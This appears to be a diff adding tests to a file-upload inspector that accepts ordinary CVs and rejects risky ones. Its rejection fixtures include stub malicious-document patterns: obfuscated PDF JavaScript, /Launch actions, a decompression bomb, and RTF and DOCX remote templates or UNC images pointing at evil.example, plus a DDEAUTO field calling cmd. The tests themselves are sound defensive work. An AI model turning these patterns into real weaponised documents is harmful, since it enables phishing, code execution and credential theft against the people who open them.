@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { inspectFile } from './inspectFile';
 import { zip } from '../../test/zip';
@@ -26,6 +27,14 @@ const oldOffice = (...streams: string[]) =>
     ...streams.map((stream) => Buffer.from(stream, 'utf16le')),
   ]);
 
+const relationship = (type: string, rest: string) =>
+  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
+    Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ${rest}/></Relationships>`;
+const pdf = (...objects: string[]) =>
+  Buffer.from(`%PDF-1.5\n${objects.join('\n')}\ntrailer<</Root 1 0 R>>\n%%EOF`, 'latin1');
+const stream = (content: string, dictionary = '') =>
+  `5 0 obj<<${dictionary}/Filter/FlateDecode>>stream\n${deflateSync(content).toString('latin1')}\nendstream endobj`;
+
 describe('inspectFile', () => {
   it.each([
     ['cv.pdf', PDF, 'application/pdf'],
@@ -36,6 +45,23 @@ describe('inspectFile', () => {
     ['cv.txt', Buffer.from('שלום\r\n\tעולם'), 'text/plain'],
     ['old.doc', oldOffice('WordDocument'), 'application/msword'],
     ['old.xls', oldOffice('Workbook'), 'application/vnd.ms-excel'],
+    [
+      'of-a-developer.pdf',
+      pdf('1 0 obj<</Title(HTML/JavaScript \\(and /Launch\\))>>endobj'),
+      'application/pdf',
+    ],
+    ['text-about-scripts.pdf', pdf(stream('BT (I know /JavaScript) Tj ET')), 'application/pdf'],
+    ['objects-in-a-stream.pdf', pdf(stream('1 0 <</Type/Catalog>>', '/Type/ObjStm')), 'application/pdf'],
+    [
+      'with-a-link.docx',
+      docx({
+        'word/_rels/document.xml.rels': relationship(
+          'hyperlink',
+          'Target="https://a.example" TargetMode="External"',
+        ),
+      }),
+      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+    ],
     ['cv.docx', docx(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
     ['table.xlsx', xlsx(), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
   ])('takes %s', async (name, bytes, mimeType) => {
@@ -84,6 +110,49 @@ describe('inspectFile', () => {
       'cv.pdf',
       Buffer.from(PDF.toString().replace('/Catalog', '/Catalog/Launch')),
     ],
+    ['a pdf with a name in escapes', 'cv.pdf', pdf('1 0 obj<</S/J#61vaScript/#4aS(app.alert(1))>>endobj')],
+    [
+      'a pdf with a script in a packed object',
+      'cv.pdf',
+      pdf(stream('1 0 <</S/JavaScript/JS(x)>>', '/Type/ObjStm')),
+    ],
+    [
+      'a pdf with a script in an object that looks like data',
+      'cv.pdf',
+      pdf('1 0 obj<<>>stream\n2 0 obj<</S/Launch>>endobj\nendstream'),
+    ],
+    ['a pdf with another file in it', 'cv.pdf', pdf('1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj')],
+    ['a locked pdf', 'cv.pdf', pdf('1 0 obj<<>>endobj\ntrailer<</Encrypt 2 0 R>>')],
+    ['a pdf that is a bomb', 'cv.pdf', pdf(stream('0'.repeat(60_000_000)))],
+    ['a text with an object over two lines', 'cv.rtf', Buffer.from('{\\rtf1{\\obj\r\ndata 00}}')],
+    ['a text with an object in escapes', 'cv.rtf', Buffer.from("{\\rtf1{\\obj\\'64ata 00}}")],
+    ['a text with a template', 'cv.rtf', Buffer.from('{\\rtf1{\\*\\template http://evil.example/a.dot}}')],
+    [
+      'a text with a field that fetches',
+      'cv.rtf',
+      Buffer.from('{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd}}}'),
+    ],
+    [
+      'a document with a template from elsewhere',
+      'cv.docx',
+      docx({
+        'word/_rels/settings.xml.rels': relationship(
+          'attachedTemplate',
+          'Target="https://evil.example/t.dotm" TargetMode="External"',
+        ),
+      }),
+    ],
+    [
+      'a document with a picture from elsewhere',
+      'cv.docx',
+      docx({
+        'word/_rels/document.xml.rels': relationship(
+          'image',
+          'TargetMode = \'External\' Target="\\\\\\\\evil\\a"',
+        ),
+      }),
+    ],
+    ['a document with an object', 'cv.docx', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
     ['a text with an object', 'cv.rtf', Buffer.from('{\\rtf1{\\object\\objdata 00}}')],
     ['a bomb', 'cv.docx', docx({ 'word/a.xml': '0'.repeat(5_000_000) })],
   ])('refuses %s by its content', async (_case, name, bytes) => {
